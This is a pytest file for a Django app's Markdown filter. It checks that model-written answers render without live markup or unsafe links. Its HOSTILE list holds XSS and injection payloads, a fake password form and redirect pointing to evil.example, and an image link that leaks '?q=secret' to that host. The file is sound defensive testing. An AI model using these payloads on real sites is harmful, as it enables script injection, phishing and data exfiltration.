"""What a model wrote, as HTML: nothing of it is markup of its own."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string

from jobs.models import Answer, LanguageModel
from jobs.templatetags.markdown import BLOCKS, INLINE, TABLE, markdown, parser

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](http://evil.example/?q=secret)",
    "![pixel][1]\n\n[1]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](//evil.example)",
    "<a href='javascript:alert(1)'>x</a>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><svg onload=alert(1)>`",
    '[x](https://a.example/"onmouseover="alert(1))',
    "</article></section><iframe src=//evil.example>",
    "<style>*{display:none}</style>",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/settings/delete)",
    "<javascript:alert(1)>",
    "[click][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "title" onmouseover="alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1>'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p id=main class=toast style='position:fixed;inset:0' data-live=again hx-post=/>over</p>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><svg>'>",
]


class Tags(HTMLParser):
    """The tags of a page, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("reads_html", [False, True])
def test_hostile_output_is_inert(text, reads_html, monkeypatch):
    """Even if the reader of Markdown let HTML through."""
    monkeypatch.setitem(parser.options, "html", reads_html)
    for tag, attributes in Tags(markdown(text)).seen:
        assert tag in BLOCKS | TABLE | INLINE
        assert set(attributes) <= {"href", "rel", "target", "class"}
        assert attributes.get("class", "scroll-x") == "scroll-x"
        assert str(attributes.get("href", "https://")).startswith(("http://", "https://"))


def test_html_shows_as_text():
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown("<b>bold</b>")


def test_a_link_gives_no_hold_on_the_page():
    _paragraph, (_, attributes) = Tags(markdown("<https://a.example>")).seen
    assert attributes == {
        "href": "https://a.example",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_the_page_around_it_keeps_its_tags(text):
    def tags_with(shown: str) -> set[str]:
        answer = Answer(question="q", text=shown, status="done", model=LanguageModel(name=shown))
        return {
            tag for tag, _ in Tags(render_to_string("jobs/_answer.html", {"answer": answer})).seen
        }

    assert tags_with(text) <= tags_with("plain") | {"a", "pre", "code", "p", "br"}


def test_markdown_reads_well():
    html = markdown(
        "# Title\n\nA **bold** _word_ and `code`.\n\n1. one\n2. two\n\n| a |\n|---|\n| b |"
    )
    for part in ("<strong>bold</strong>", "<em>word</em>", "<code>code</code>", "<li>one</li>"):
        assert part in html
    assert "<td>b</td>" in html


@pytest.mark.parametrize("text", [">" * 5000 + "deep", "[" * 5000, "*a " * 5000, "- " * 3000])
def test_deep_nesting_costs_little(text):
    assert markdown(text)
